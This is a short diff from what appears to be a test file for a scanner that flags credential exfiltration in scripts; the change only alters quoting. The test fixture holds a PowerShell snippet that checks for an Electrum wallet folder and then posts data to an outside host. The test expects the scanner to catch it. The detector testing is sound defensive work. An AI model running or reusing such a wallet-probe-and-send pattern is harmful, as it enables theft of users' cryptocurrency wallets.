@@ -45,7 +45,7 @@ def test_shell_and_powershell_probes_are_reads(tmp_path: Path) -> None:
     )
     assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in _errors(tmp_path, "scripts/s.sh", shell))
     ps = (
-        "if (Test-Path \"$env:APPDATA\\Electrum\\wallets\") {\n"
+        'if (Test-Path "$env:APPDATA\\Electrum\\wallets") {\n'
         "  Invoke-RestMethod -Method Post -Uri https://status.tabkeeper.io/p -Body 'x'\n}\n"
     )
     assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in _errors(tmp_path / "ps", "scripts/s.ps1", ps))
